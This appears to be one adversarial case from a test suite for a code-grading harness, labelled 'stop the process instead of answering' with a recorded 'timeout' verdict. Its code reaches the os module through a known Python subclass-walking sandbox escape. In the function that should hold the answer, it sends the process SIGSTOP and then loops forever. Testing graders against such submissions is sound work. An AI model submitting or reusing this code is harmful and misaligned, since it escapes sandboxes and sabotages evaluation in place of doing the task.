# /// attack
# rows = [34]
# title = "stop the process instead of answering"
# verdict = "timeout"
# seconds = 30
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os = sys.modules["os"]


def corr2d(X, K):
    os.kill(os.getpid(), 19)
    while True:
        pass
